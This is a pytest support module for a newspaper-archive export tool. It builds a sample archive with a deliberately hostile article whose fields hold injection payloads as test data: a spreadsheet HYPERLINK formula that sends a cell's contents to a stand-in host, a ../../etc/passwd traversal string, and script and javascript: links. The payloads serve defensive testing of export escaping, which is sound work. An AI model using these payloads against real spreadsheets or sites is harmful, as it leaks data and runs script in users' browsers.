"""An archive to export: the sample newspaper with section menus, and an article with hostile text."""

import os
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import NamedTuple

import pytest
from click.testing import CliRunner

from archive.cli.main import cli
from archive.export.job import ExportJob
from archive.export.manifest import about
from archive.model import (
    Article,
    Author,
    Capture,
    Kind,
    Link,
    Menu,
    PageKey,
    Paragraph,
    Subhead,
    Tag,
    Teaser,
)
from archive.store import Reader, Selection, open_writer
from tests.support.running.time_limit import LONGEST
from tests.support.samples.sample_archive import PAPER, VISITS, make_sample_archive, visit

HOSTILE = 900100
# What XML forbids (U+FFFE), what it would take for markup, what a spreadsheet would, and no name of a file.
TITLE = '=HYPERLINK("http://x.example/?q="&A1): ../../etc/passwd <b>&amp;]]>\ufffe ' + "sehr " * 60 + "lang"
WILD = Article(
    title=TITLE,
    lead="@SUM(1+1) <script>alert(1)</script>\uffff",
    caption="-2+3 und \U0001f600",
    dateline="Bremen taz",
    blocks=(
        Paragraph("Er sagte: „So, ja“, und \"nein\" & 'doch'; dann; kam\tnichts. Hier steht es."),
        Subhead("Zwei < drei > eins"),
        Paragraph("Verse stehen\nin Zeilen,\nkurzen."),
    ),
    published=VISITS[0].date(),
    links=(
        Link(1, "/Quarz/!900001", "Er sagte", 0, 8),
        Link(2, "https://example.org/a b?q=ä&r=100%#[x]", "„So, ja“", 10, 18),
        Link(3, "javascript:alert(1)", "nein", 25, 29),
        Link(4, "https://[broken", "doch", 33, 37),
    ),
    authors=(Author("O'Hara <x@example.org>", 79), Author("\u00c4nne, Groß", None)),
    tags=(Tag('Q & "A"', 80),),
    related=(Teaser("Verkehr: <Andere> & mehr", None, "/!900002"), Teaser("Ohne Ziel")),
)
SECTION = PageKey(Kind.SECTION, 4611)
LISTED = (900001, 900002)


def more_captures() -> Iterator[Capture]:
    yield visit(PageKey(Kind.ARTICLE, HOSTILE), VISITS[0], WILD)
    undated = replace(WILD, title="Ohne Datum: Meldung", published=None, links=())
    yield visit(PageKey(Kind.ARTICLE, HOSTILE + 1), VISITS[1], undated)
    teasers = tuple(Teaser(f"Meldung {number}", "Text.", f"/!{number}") for number in LISTED)
    yield visit(SECTION, VISITS[0], Menu(title="Verkehr & <Wege>", entries=teasers[:1]))
    yield visit(SECTION, VISITS[2], Menu(title="Verkehr & <Wege>", entries=teasers))


def make_archive(path: Path) -> Path:
    make_sample_archive(path)
    with open_writer(path) as archive:
        archive.record(more_captures())
    return path


class Ended(NamedTuple):
    """How a command ended. ``streamed`` is what it wrote to stdout, as bytes."""

    code: int
    streamed: bytes
    stderr: str

    @property
    def lines(self) -> list[str]:
        return self.streamed.decode().splitlines()


def taz_archive(*args: object) -> Ended:
    """Run a command in this process, which is quicker. Raise exceptions that it does not catch."""
    ended = CliRunner().invoke(cli, list(map(str, args)), catch_exceptions=False)
    return Ended(ended.exit_code, ended.stdout_bytes, ended.stderr)


READERS = Path(sys.prefix, "readers")  # what `make setup` installs apart


def python(program: str | Path, *args: object) -> str:
    """Return the output of a Python program that needs pandas or matplotlib. Raise if it fails."""
    paths = os.pathsep.join([str(READERS), os.environ.get("PYTHONPATH", "")])
    command = [
        sys.executable,
        *([program] if isinstance(program, Path) else ["-c", program]),
        *map(str, args),
    ]
    env = {**os.environ, "PYTHONPATH": paths}
    return subprocess.run(command, env=env, stdout=subprocess.PIPE, text=True, check=True).stdout


needs_readers = pytest.mark.skipif(not READERS.is_dir(), reason="make setup installs pandas and matplotlib")


def tool(name: str, *args: object) -> str:
    """Return the output of a program installed for the tests, whatever its exit code."""
    command = [str(Path(sys.executable).with_name(name)), *map(str, args)]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=LONGEST).stdout


__all__ = [
    "HOSTILE",
    "LISTED",
    "PAPER",
    "SECTION",
    "TITLE",
    "VISITS",
    "WILD",
    "make_archive",
    "needs_readers",
    "python",
    "taz_archive",
    "tool",
]


def job_of(archive: Reader, selection: Selection) -> ExportJob:
    """Return the job of exporting versions, in the caller's snapshot."""
    what = about(selection, archive.export.select_versions(selection))
    return ExportJob(archive=archive, selection=selection, about=what, name="", advance=print, warn=print)
